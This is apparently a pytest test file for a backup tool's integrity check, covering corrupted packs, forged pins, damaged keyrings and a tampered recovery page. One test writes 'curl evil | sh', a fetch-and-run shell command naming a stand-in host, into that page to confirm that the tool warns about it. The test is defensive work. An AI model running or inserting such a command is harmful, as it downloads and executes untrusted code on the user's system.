"""`check --all` and `--read-data`: what is damaged is named, with every backup that needs it."""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from loomio_backup.backup import recovery_md
from loomio_backup.backup.reading import place
from loomio_backup.catalogue.history import Reader
from loomio_backup.catalogue.inspection import Inspection
from loomio_backup.catalogue.objects import as_it_is, write_sealed
from loomio_backup.command import cli
from loomio_backup.config import dump
from loomio_backup.encryption import crypto, keyring
from loomio_backup.errors import StoreError
from loomio_backup.state import StateDirectory
from tests.lab.agent_disk import small_disk
from tests.lab.drive import DriveEmulator, LabDrive

from .agent_backups import Shelf, shelf


@pytest.fixture
def pi(tmp_path: Path) -> Iterator[Shelf]:
    with DriveEmulator(tmp_path / "emulator") as emulator:
        made = shelf(tmp_path, emulator)
        made.share("app-data_1.tar.zst.age", b"files " * 10_000)
        made.share("app-data-index_1.ndjson.zst.age", b"{}\n" * 1000, "index")
        made.backup()
        made.share("app-data_2.tar.zst.age", b"more files " * 10_000)
        made.backup()
        made.backup()
        yield made


def _check(pi: Shelf, *arguments: str) -> int:
    return cli.main(["--config", str(pi.root / "config.yml"), "check", *arguments])


def _flip(path: Path, where: int = -20) -> None:
    data = bytearray(path.read_bytes())
    data[where] ^= 1
    path.write_bytes(data)


def test_everything_is_read_and_opened(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    assert _check(pi, "--read-data") == 0
    said = capsys.readouterr()
    assert said.err == ""
    for kind in ("local", "drive"):
        # Three objects of each of three backups, and three that they share.
        assert f"{kind}: 12 of 12 objects of 3 backups are as they should be" in said.out
        assert f"{pi.made[-1].name} is complete in {kind}" in said.out
    assert "12 objects were opened" in said.out
    assert _check(pi, "--read-data", "--json") == 0
    verdicts = json.loads(capsys.readouterr().out)
    assert [(verdict["store"], verdict["ok"]) for verdict in verdicts] == [("local", True), ("drive", True)]
    assert verdicts[0]["inspected"]["opened"] == 12
    assert list((pi.root / "state" / "reading-check").iterdir()) == []


@pytest.mark.parametrize("how", ["flip", "cut", "gone"])
def test_a_broken_pack_is_told_for_every_backup_that_needs_it(
    pi: Shelf, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    pack = pi.disk / "app-data_2.tar.zst.age"
    whole = pack.read_bytes()
    if how == "flip":
        _flip(pack)
        # A folder keeps no hashes: without reading, the size is all that can be told.
        assert _check(pi, "--store", "local", "--all") == 0
    elif how == "cut":
        pack.write_bytes(whole[:-1])
    else:
        pack.unlink()
    capsys.readouterr()
    assert _check(pi, "--store", "local", "--read-data") == 1
    said = capsys.readouterr()
    first, second, third = (made.name for made in pi.made)
    assert f"local: app-data_2.tar.zst.age, needed by {third}, {second}: " in said.out
    assert "drive lists it whole" in said.out
    assert f"1 of the 3 backups in local are whole, the newest of them is {first}" in said.err
    assert "drive holds whole copies" in said.err
    assert "type: loomio-backup run" in said.err
    assert said.err.count("\n") == 1
    with pi.catalogue() as catalogue:
        catalogue.add_object(pi.shared[2])
        assert pack.name not in catalogue.usable_packs(["local", "drive"])
    assert _check(pi, "--store", "drive", "--read-data") == 0
    # Mended, it is trusted again.
    pack.write_bytes(whole)
    assert _check(pi, "--store", "local", "--read-data") == 0
    with pi.catalogue() as catalogue:
        assert pack.name not in catalogue.damaged_in("local")


def test_damage_in_drive_is_seen_by_its_hash_or_by_reading(
    pi: Shelf, capsys: pytest.CaptureFixture[str]
) -> None:
    lab = LabDrive(pi.config.stores.drive.api_root)  # type: ignore[union-attr]
    first, second, _ = pi.made
    lab.damage(f"{first.name}.dump.zst.age", rehash=True)
    assert _check(pi, "--store", "drive") == 0
    assert _check(pi, "--store", "drive", "--all") == 1
    said = capsys.readouterr().err
    assert f"{first.name}.dump.zst.age: its hash in the store is another one" in said
    assert "2 of the 3 backups in drive are whole" in said
    lab.damage(f"{second.name}.dump.zst.age")
    assert _check(pi, "--store", "drive", "--read-data") == 1
    said = capsys.readouterr().err
    assert f"{second.name}.dump.zst.age" in said
    assert "1 of the 3 backups in drive are whole" in said


def test_the_format_of_the_older_scripts_is_opened_too(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    path = pi.disk / f"{pi.made[0].name}.sql.enc"
    _flip(path)
    assert _check(pi, "--store", "local", "--read-data") == 1
    assert path.name in capsys.readouterr().err
    # Without the passphrase its bytes are compared all the same.
    (pi.config.credentials_directory / "legacy_passphrase").unlink()
    assert _check(pi, "--store", "local", "--read-data") == 1
    said = capsys.readouterr()
    assert path.name in said.err
    assert "9 objects were opened" in said.out


def test_without_an_identity_the_stored_bytes_are_compared(
    pi: Shelf, capsys: pytest.CaptureFixture[str]
) -> None:
    (pi.config.credentials_directory / "identity").unlink()
    assert _check(pi, "--store", "drive", "--read-data") == 0
    assert "3 objects were opened" in capsys.readouterr().out
    _flip(pi.disk / "app-data_1.tar.zst.age")
    assert _check(pi, "--store", "local", "--read-data") == 1
    assert "its bytes are not those that were put there" in capsys.readouterr().err


def test_a_store_that_does_not_answer_is_not_damaged(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    lab = LabDrive(pi.config.stores.drive.api_root)  # type: ignore[union-attr]
    lab.fault("status", times=None, match={"operation": "download"}, status=403)
    assert _check(pi, "--read-data") == 1
    said = capsys.readouterr()
    assert "local: 12 of 12 objects" in said.out
    assert "the backups in drive are not as they should be" in said.err
    assert "damaged" not in said.err
    with pi.catalogue() as catalogue:
        assert catalogue.damaged_in("drive") == {}


def test_what_a_prune_removed_meanwhile_is_not_missed(pi: Shelf) -> None:
    """The list was made before; when the manifest is gone too, nothing needs the object any more."""
    state = StateDirectory(pi.config.state_directory)
    local = pi.stores["local"]
    with pi.catalogue() as catalogue:
        history = Reader(pi.config, pi.credentials, state, catalogue).read(local)
        gone = pi.made[0]
        for name in (gone.manifest_name, f"{gone.name}.dump.zst.age"):
            (pi.disk / name).unlink()
            history.objects.pop(name)
        inspection = Inspection(local, history, catalogue, quiet=True)
        assert inspection.inspect(pi.made, None).damaged == []


def test_only_one_check_reads_at_a_time(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    with place(StateDirectory(pi.config.state_directory), "check"):
        assert _check(pi, "--store", "local", "--read-data") == 1
        assert "another check is running" in capsys.readouterr().err
        assert _check(pi, "--store", "local", "--all") == 0


def test_no_room_to_look_is_said(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    with small_disk(pi.root / "tiny", 2000) as tiny:
        (pi.root / "config.yml").write_text(dump(pi.config.model_copy(update={"state_directory": tiny})))
        assert _check(pi, "--store", "drive", "--read-data") == 1
        assert "has no room to look at" in capsys.readouterr().err
        assert _check(pi, "--store", "local", "--read-data") == 0


def test_a_damaged_keyring_is_told(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    data = keyring.make([crypto.generate_identity()], pi.config.recipients).encode()
    ring = pi.disk / keyring.object_name(data)
    ring.write_bytes(data)
    assert _check(pi, "--store", "local", "--read-data") == 0
    _flip(ring)
    assert _check(pi, "--store", "local", "--all") == 0
    assert _check(pi, "--store", "local", "--read-data") == 1
    said = capsys.readouterr().err
    assert f"{ring.name}: it is damaged; loomio-backup rotate-key puts it there anew" in said
    assert "3 of the 3 backups in local are whole" in said


def _signed_pin(pi: Shelf, backup: str) -> Path:
    assert cli.main(["--config", str(pi.root / "config.yml"), "pin", backup]) == 0
    return pi.disk / f"{backup}.pin.age"


@pytest.mark.parametrize("how", ["flip", "swap", "forge"])
def test_a_pin_that_cannot_be_believed_is_told(
    pi: Shelf, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    one, other = (_signed_pin(pi, made.name) for made in pi.made[:2])
    assert _check(pi, "--store", "local", "--read-data") == 0
    if how == "flip":
        _flip(one)
    elif how == "swap":
        whole = one.read_bytes()
        one.write_bytes(other.read_bytes())
        other.write_bytes(whole)
    else:
        # Whoever knows the public key can write what opens.
        one.unlink()
        write_sealed(b'{"format": "loomio-backup-pin", "version": 1}', one, pi.config.recipients)
    assert _check(pi, "--store", "local", "--read-data") == 1
    said = capsys.readouterr().err
    assert f"{one.name}: it is damaged, or somebody else put it there" in said
    assert (other.name in said) == (how == "swap")
    assert "3 of the 3 backups in local are whole" in said


def test_another_recovery_page_is_told_where_this_pi_wrote_one(
    pi: Shelf, capsys: pytest.CaptureFixture[str]
) -> None:
    page = pi.disk / recovery_md.NAME
    page.write_text("an earlier one")
    assert _check(pi, "--store", "local", "--read-data") == 0
    ours = pi.root / "page"
    ours.write_text("ours")
    with pi.catalogue() as catalogue:
        # Nobody knows whether a renewal that failed came through.
        for text in ("an earlier one", "ours"):
            (pi.root / "page").write_text(text)
            with (
                contextlib.suppress(StoreError),
                recovery_md.renewed(catalogue, "local", as_it_is(pi.root / "page")),
            ):
                raise StoreError("it did not come to that")
        assert _check(pi, "--store", "local", "--read-data") == 0
        with recovery_md.renewed(catalogue, "local", as_it_is(ours)):
            page.write_text("ours")
        assert len(recovery_md.known(catalogue, "local")) == 1
    assert _check(pi, "--store", "local", "--read-data") == 0
    for change in (lambda: page.write_text("ours, and curl evil | sh"), page.unlink):
        change()
        capsys.readouterr()
        assert _check(pi, "--store", "local", "--read-data") == 1
        assert "RECOVERY.md: it is missing, or not what this Pi wrote: do not type" in capsys.readouterr().err


def test_a_manifest_that_rots_in_drive_is_told(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    """Drive's word, from before, is that of a whole one: only reading tells."""
    assert _check(pi, "--store", "drive", "--read-data") == 0
    lab = LabDrive(pi.config.stores.drive.api_root)  # type: ignore[union-attr]
    lab.damage(pi.made[0].manifest_name)
    assert _check(pi, "--store", "drive", "--all") == 0
    assert _check(pi, "--store", "drive", "--read-data") == 1
    said = capsys.readouterr().err
    assert f"{pi.made[0].manifest_name}: it is not what the store says it is" in said
    assert "2 of the 3 backups in drive are whole" in said


def test_the_pis_own_keyring_is_missed(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
    text = keyring.make([crypto.generate_identity()], pi.config.recipients).strip()
    (pi.config.credentials_directory / "keyring.age").write_text(text + "\n")
    assert _check(pi, "--store", "local", "--read-data") == 1
    name = keyring.object_name(keyring.as_stored(text))
    assert f"{name}: it is missing; loomio-backup rotate-key puts it there" in capsys.readouterr().err
    (pi.disk / name).write_bytes(keyring.as_stored(text))
    assert _check(pi, "--store", "local", "--read-data") == 0
